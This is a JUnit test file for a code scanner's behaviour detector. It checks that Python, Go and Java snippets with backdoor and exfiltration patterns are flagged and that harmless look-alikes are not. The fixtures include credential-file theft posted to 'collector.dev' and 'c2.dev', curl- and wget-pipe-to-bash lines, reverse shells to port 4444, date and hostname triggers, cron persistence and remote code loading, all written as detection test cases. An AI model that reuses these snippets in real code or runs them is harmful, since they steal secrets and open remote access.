package dev.sigil.scanner.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sigil.core.scan.Finding;
import dev.sigil.core.scan.FlowStep;
import dev.sigil.core.scan.ScanReport;
import dev.sigil.core.scan.Verdict;
import dev.sigil.scanner.MemoryTree;
import dev.sigil.scanner.Scans;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** How values are followed and what is judged over a file. */
class BehaviourDetectorTest {
  @Test
  void valuesAreFollowed_throughHelpersMembersAndCollections() {
    String code =
        """
        import os, requests
        class Reader:
            PATHS = ["~/.aws/credentials", "~/.netrc"]
            URL = "https://collector.dev/in"
            def gather(self):
                found = {}
                for path in Reader.PATHS:
                    full = os.path.expanduser(path)
                    with open(full) as handle:
                        found[path] = handle.read()
                return found
            def deliver(self, data):
                body = {"d": data}
                requests.post(Reader.URL, json=body)
        def run():
            reader = Reader()
            reader.deliver(reader.gather())
        """;

    assertThat(Scans.rules("server.py", code)).contains("exfiltration/secrets");
  }

  @Test
  void actingFromADayOn_isATrigger() {
    String code =
        """
        import os
        from datetime import datetime
        WHEN = datetime(2027, 1, 1)
        def due():
            return datetime.now() > WHEN
        def work():
            if due():
                os.system(COMMAND)
        """;

    assertThat(Scans.rules("server.py", code)).contains("backdoor/trigger");
    assertThat(Scans.rules("server.py", code.replace("os.system(COMMAND)", "print(COMMAND)")))
        .doesNotContain("backdoor/trigger");
    assertThat(Scans.rules("server.py", code.replace("> WHEN", "> self.last")))
        .doesNotContain("backdoor/trigger");
  }

  @Test
  void actingOnOneMachine_isATrigger_localhostIsEveryMachine() {
    String code =
        """
        import os, socket
        def work():
            if socket.gethostname() == "%s":
                os.system(COMMAND)
        """;

    assertThat(Scans.rules("server.py", code.formatted("build-7"))).contains("backdoor/trigger");
    assertThat(Scans.rules("server.py", code.formatted("localhost")))
        .doesNotContain("backdoor/trigger");
  }

  @Test
  void twoSignsOfABackdoorInOneFile_block() {
    String one = "import os\ndef a():\n    os.system('curl -s https://c2.dev/x | bash')\n";
    String two = one + "def b():\n    open('/etc/cron.d/u', 'w').write('x')\n";

    assertThat(Scans.scan(MemoryTree.of("a.py", one)).verdict()).isEqualTo(Verdict.WARN);
    ScanReport report = Scans.scan(MemoryTree.of("a.py", two));
    assertThat(report.verdict()).isEqualTo(Verdict.BLOCK);
    Finding implant =
        report.findings().stream()
            .filter(finding -> finding.rule().equals("backdoor/implant"))
            .findFirst()
            .orElseThrow();
    assertThat(implant.steps()).extracting(FlowStep::line).containsExactly(5, 3);
  }

  @Test
  void whatOneFileReadsAndAnotherSends_isFound() {
    MemoryTree tree =
        MemoryTree.of("src/keys.py", "def gather():\n    return open('/root/.ssh/id_rsa').read()\n")
            .with(
                "src/net.py",
                """
                import requests
                from keys import gather
                def beat():
                    requests.post("https://collector.dev/in", data=gather())
                """);

    List<Finding> findings = Scans.scan(tree).findings();

    assertThat(findings)
        .extracting(Finding::rule)
        .containsExactly("overreach/credential-file", "exfiltration/secrets");
    assertThat(findings.getLast().steps())
        .extracting(FlowStep::path)
        .containsExactly("src/keys.py", "src/net.py");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '#',
      textBlock =
          """
          exfiltration/secrets § data, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa")); http.Post("https://c2.dev/k", "text/plain", bytes.NewReader(data)) § data, _ := os.ReadFile("/srv/report.txt"); http.Post("https://api.dev/k", "text/plain", bytes.NewReader(data))
          exfiltration/secrets § body := strings.Join(os.Environ(), " "); req, _ := http.NewRequest(http.MethodPost, "https://c2.dev/e", strings.NewReader(body)); _ = req § body := os.Getenv("API_URL"); req, _ := http.NewRequest(http.MethodPost, "https://api.dev/e", strings.NewReader(body)); _ = req
          exfiltration/cloud-metadata § http.Get("http://169.254.169.254/latest/meta-data/") § blocked := []string{"http://169.254.169.254/latest"}; _ = blocked
          backdoor/decoded-command § raw, _ := base64.StdEncoding.DecodeString(blob); exec.Command("sh", "-c", string(raw)).Run() § raw, _ := base64.StdEncoding.DecodeString(blob); save(string(raw))
          backdoor/remote-command § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); exec.Command("sh", "-c", string(body)).Run() § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); exec.Command("git", "clone", string(body)).Run()
          backdoor/remote-code § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); vm.RunString(string(body)) § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); vm.Parse(string(body))
          backdoor/socket-shell § c, _ := net.Dial("tcp", "c2.dev:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() § c, _ := net.Dial("tcp", "db.dev:5432"); cmd := exec.Command("ls"); cmd.Stdin = os.Stdin; cmd.Run(); _ = c
          backdoor/runs-download § exec.Command("/bin/sh", "-c", "wget -O - https://c2.dev/x | /bin/bash &").Start() § log.Printf("wget -O - https://c2.dev/x | /bin/bash"); exec.Command("ls").Run()
          backdoor/persistence § os.WriteFile("/etc/cron.d/update", job, 0644) § os.ReadFile("/etc/cron.d/update")
          """)
  void go_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
    String frame = "package main\n\nfunc work(home, blob, address string, job []byte) {\n\t%s\n}\n";

    assertThat(Scans.rules("main.go", frame.formatted(attack.replace("; ", "\n\t"))))
        .contains(rule);
    assertThat(Scans.rules("main.go", frame.formatted(neighbour.replace("; ", "\n\t"))))
        .doesNotContain(rule);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '#',
      textBlock =
          """
          exfiltration/secrets § String key = Files.readString(Path.of(home, ".aws/credentials")); rest.postForObject("https://c2.dev/k", key, String.class); § String text = Files.readString(Path.of(home, "report.txt")); rest.postForObject("https://api.dev/k", text, String.class);
          exfiltration/secrets § HttpRequest.newBuilder(URI.create("https://c2.dev/e")).POST(BodyPublishers.ofString(System.getenv().toString())).build(); § HttpRequest.newBuilder(URI.create("https://api.dev/e")).POST(BodyPublishers.ofString(System.getenv("REGION"))).build();
          exfiltration/cloud-metadata § new URL("http://169.254.169.254/latest/meta-data/").openStream(); § List<String> blocked = List.of("http://169.254.169.254/latest");
          backdoor/decoded-code § byte[] code = Base64.getDecoder().decode(blob); lookup.defineClass(code); § byte[] code = Base64.getDecoder().decode(blob); store.save(code);
          backdoor/decoded-command § Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(blob))); § store.save(new String(Base64.getDecoder().decode(blob)));
          backdoor/remote-code § engine.eval(new String(new URL(address).openStream().readAllBytes())); § parser.read(new String(new URL(address).openStream().readAllBytes()));
          backdoor/remote-code § ClassLoader loader = new URLClassLoader(new URL[] {new URL("https://c2.dev/x.jar")}); § ClassLoader loader = new URLClassLoader(new URL[] {Path.of("plugins/x.jar").toUri().toURL()});
          backdoor/remote-command § String order = rest.getForObject(address, String.class); new ProcessBuilder("sh", "-c", order).start(); § String order = rest.getForObject(address, String.class); new ProcessBuilder("git", "clone", order).start();
          backdoor/socket-shell § Process p = new ProcessBuilder("/bin/sh").start(); Socket s = new Socket(home, 4444); s.getOutputStream().write(p.getInputStream().read() + p.getErrorStream().read()); § Process p = new ProcessBuilder("ls").start(); Socket s = new Socket(home, 4444); s.getOutputStream().write(p.getInputStream().read() + p.getErrorStream().read());
          backdoor/persistence § Files.writeString(Path.of("/etc/cron.d/update"), job); § Files.readString(Path.of("/etc/cron.d/update"));
          """)
  void java_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
    String frame =
        "class Work {\n  void work(String home, String blob, String address, String job) {\n    %s\n  }\n}\n";

    assertThat(Scans.rules("Work.java", frame.formatted(attack))).contains(rule);
    assertThat(Scans.rules("Work.java", frame.formatted(neighbour))).doesNotContain(rule);
  }
}
